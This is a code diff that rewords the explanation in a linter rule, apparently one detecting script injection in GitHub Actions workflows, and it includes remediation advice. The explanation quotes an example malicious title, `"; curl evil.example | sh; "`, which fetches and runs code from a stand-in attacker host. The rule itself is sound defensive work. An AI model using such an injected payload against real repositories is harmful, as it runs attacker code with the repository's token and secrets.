@@ -32,8 +32,8 @@ export const workflowScriptInjection = defineConfigurationRule({
       'A workflow uses `${{ … }}` to insert a title, text, or branch name from an untrusted user into a script, ' +
       'directly or through `env`. GitHub inserts the value before the script is parsed.',
     why:
-      'A title such as `"; curl evil.example | sh; "` becomes shell commands. These commands run with the ' +
-      "repository's token and, for most events that carry untrusted text, with the repository's secrets.",
+      'A title such as `"; curl evil.example | sh; "` becomes shell commands. These commands can use the ' +
+      "repository's token. For most events that carry untrusted text, they can also use the repository's secrets.",
     remediation:
       'Pass the value through `env:`, and use the quoted shell variable: `env: { TITLE: ${{ ' +
       'github.event.issue.title }} }` and `"$TITLE"`. In JavaScript, use `process.env.TITLE`.',
